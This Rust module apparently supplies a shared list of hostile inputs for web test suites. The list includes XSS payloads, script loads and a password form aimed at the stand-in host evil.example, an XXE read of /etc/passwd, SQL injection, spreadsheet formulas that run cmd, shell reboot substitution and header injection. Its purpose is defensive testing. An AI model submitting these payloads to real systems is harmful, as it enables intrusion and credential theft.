//! Strings that somebody may text or type in the hope that a page, a spreadsheet or a terminal acts on them. One list for
//! every suite: the HTTP suite looks at the bytes of the pages, the browser suite at what a browser makes of them.

/// Every string. Whatever one of them makes a page do shows as a dialog, a request to `evil.example`, or a variable
/// `pwned` of the window.
pub fn strings() -> Vec<String> {
    let mut all: Vec<String> = FIXED.iter().map(ToString::to_string).collect();
    all.push("A".repeat(1_600));
    all.push(format!("{}<script>alert(1)</script>", "<".repeat(400)));
    all.push("\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466}".repeat(40));
    all.push(format!("Z{}", "\u{0300}\u{0489}".repeat(200)));
    all
}

const FIXED: [&str; 60] = [
    // Elements and scripts.
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=\"window.pwned=1\">",
    "<image/src/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"data:text/html,<script>alert(1)</script>\">",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password autofocus>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>hike</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    // Out of the place where the text stands.
    "</textarea><svg onload=alert(1)>",
    "</title><svg onload=alert(1)>",
    "</option></select><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)' x='",
    "\" autofocus onfocus=\"alert(1)\" x=\"",
    "` onmouseover=alert(1) `",
    "x onclick=alert(1) y",
    "<!-- --><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    // Other documents inside ours.
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
    // Addresses that act.
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.example/%2e%2e",
    // Templates and queries.
    "{{7*7}}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "'; DROP TABLE users; --",
    "\" OR \"\"=\"",
    "%' ESCAPE '\\' UNION SELECT password_hash FROM accounts --",
    // Spreadsheets and shells.
    "=HYPERLINK(\"http://evil.example\",\"hut\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "$(reboot)`reboot`;reboot|reboot",
    // What hides, turns around or breaks a line.
    "\u{202e}600075194+",
    "Sam\u{2066}\u{202e}txt.exe\u{2069}",
    "S\u{200b}a\u{200d}m\u{2060}\u{feff}",
    "Sam\r\nSet-Cookie: pwned=1\r\n\r\n<script>alert(1)</script>",
    "\u{1b}[31mred\u{1b}]0;pwned\u{7}",
    "\u{fffd}\u{fffe}\u{e000}\u{10ffff}",
    // Words that are sometimes taken for values.
    "null",
    "undefined NaN -1 true [object Object]",
];

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn there_are_sixty_and_more_and_no_two_are_the_same() {
        let all = strings();
        assert!(all.len() >= 60);
        assert_eq!(all.iter().collect::<BTreeSet<_>>().len(), all.len());
    }
}
